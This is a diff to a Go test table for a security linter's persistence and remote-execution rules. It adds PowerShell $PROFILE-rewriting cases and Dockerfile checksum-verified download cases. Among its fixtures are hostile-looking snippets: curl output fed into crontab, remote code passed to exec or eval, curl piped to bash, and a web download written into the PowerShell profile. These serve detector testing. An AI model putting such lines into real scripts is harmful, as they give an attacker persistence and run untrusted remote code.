@@ -147,6 +147,13 @@ var codeCases = []lintCase{
 	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (Confirm-Step 'Add?') {\n  Add-Content -Path $PROFILE -Value $block\n}\n", "note", 7},
 	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (-not (Confirm-Step 'Add?')) { exit 1 }\nAdd-Content -Path $PROFILE -Value $block\n", "note", 7},
 	{"s.ps1", "persistence", "function Confirm-Step([string]$Q) {\n  $a = Read-Host \"$Q [y/N]\"\n  return $a -match '^(y|yes)$'\n}\n$block = Get-Content $env:X -Raw\nif (Confirm-Step 'Add?') { Write-Host ok }\nAdd-Content -Path $PROFILE -Value $block\n", "warning", 7},
+	// Read-Host's answer tested for a yes, ShouldContinue, and ShouldProcess
+	// where ConfirmImpact High makes PowerShell ask.
+	{"s.ps1", "persistence", "$t = Get-Content $PROFILE -Raw\n$new = [regex]::Replace($t, 'x', 'y')\n$a = Read-Host \"Add the block? [y/N]\"\nif ($a -match '^[yY]') {\n  Set-Content -Path $PROFILE -Value $new\n}\n", "note", 5},
+	{"s.ps1", "persistence", "$t = Get-Content $PROFILE -Raw\n$new = [regex]::Replace($t, 'x', 'y')\n$a = Read-Host \"Add the block? [y/N]\"\nif ($a -match '^[nN]') {\n  Set-Content -Path $PROFILE -Value $new\n}\n", "warning", 5},
+	{"s.ps1", "persistence", "[CmdletBinding(SupportsShouldProcess, ConfirmImpact = 'High')]\nparam()\n$t = Get-Content $PROFILE -Raw\n$new = [regex]::Replace($t, 'x', 'y')\nif ($PSCmdlet.ShouldProcess($PROFILE, 'Add block')) {\n  Set-Content -Path $PROFILE -Value $new\n}\n", "note", 6},
+	{"s.ps1", "persistence", "[CmdletBinding(SupportsShouldProcess)]\nparam()\n$t = Get-Content $PROFILE -Raw\n$new = [regex]::Replace($t, 'x', 'y')\nif ($PSCmdlet.ShouldProcess($PROFILE, 'Add block')) {\n  Set-Content -Path $PROFILE -Value $new\n}\n", "warning", 6},
+	{"s.ps1", "persistence", "$new = (Invoke-WebRequest https://x.example/p).Content\nif ($PSCmdlet.ShouldContinue($PROFILE, 'Add')) {\n  Set-Content -Path $PROFILE -Value $new\n}\n", "warning", 3},
 	// The user's crontab with lines left out adds nothing that runs.
 	{"s.sh", "persistence", "crontab -l 2>/dev/null | grep -vF \"$marker\" | crontab -\n", "note", 1},
 	{"s.sh", "persistence", "(crontab -l; curl -s https://x.example/c) | crontab -\n", "warning", 1},
@@ -677,6 +684,11 @@ var codeCases = []lintCase{
 	{"Dockerfile", "remote-exec", "FROM python:3.12\nRUN <<EOF\n#!/usr/bin/env python3\nimport urllib.request\nsrc = urllib.request.urlopen('https://x.example/p').read()\nexec(src)\nEOF\n", "warning", 6},
 	{"Dockerfile", "remote-exec", "FROM python:3.12\nCOPY <<EOF /app/run.sh\nP=$(curl -s https://x.example/p)\neval \"$P\"\nEOF\nRUN [\"python3\", \"-m\", \"pip\", \"install\", \"-r\", \"requirements.txt\"]\n", "", 0},
 	{"Dockerfile", "pipe-to-shell", "FROM debian\nRUN curl -fsSL https://x.example/setup \\\n    # then run it\n    | bash -\n", "warning", 4},
+	// BuildKit's platform ARGs are platform names; a project's own release host
+	// is as trusted for its binaries as a forge's release at a tag.
+	{"Dockerfile", "download-exec", "FROM debian\nARG TARGETARCH\nARG V=4.44.3\nRUN <<EOT\ncurl -fsSL -o yq \"https://github.com/mikefarah/yq/releases/download/v${V}/yq_linux_${TARGETARCH}\"\necho \"" + strings.Repeat("a", 64) + "  yq\" | sha256sum -c -\ninstall -m 0755 yq /usr/local/bin/yq\nEOT\nRUN yq --version\n", "note", 9},
+	{"Dockerfile", "download-exec", "FROM debian\nARG TARGETARCH\nRUN <<EOT\ncurl -fsSL -o kubectl \"https://dl.k8s.io/release/v1.30.4/bin/linux/${TARGETARCH}/kubectl\"\necho \"" + strings.Repeat("b", 64) + "  kubectl\" | sha256sum -c -\ninstall -m 0755 kubectl /usr/local/bin/kubectl\nEOT\nRUN kubectl version --client\n", "note", 8},
+	{"Dockerfile", "download-exec", "FROM debian\nARG TARGETARCH\nRUN <<EOT\ncurl -fsSL -o tool \"https://tools.example/tool-${TARGETARCH}\"\necho \"" + strings.Repeat("c", 64) + "  tool\" | sha256sum -c -\ninstall -m 0755 tool /usr/local/bin/tool\nEOT\nRUN tool --version\n", "warning", 8},
 	{"SKILL.md", "pipe-to-shell", "# Image\n\n```dockerfile\nARG NODE_MAJOR=22\nFROM debian\nRUN curl -fsSL https://deb.nodesource.com/setup_${NODE_MAJOR}.x \\\n    | bash -\n```\n", "note", 7},
 }
 
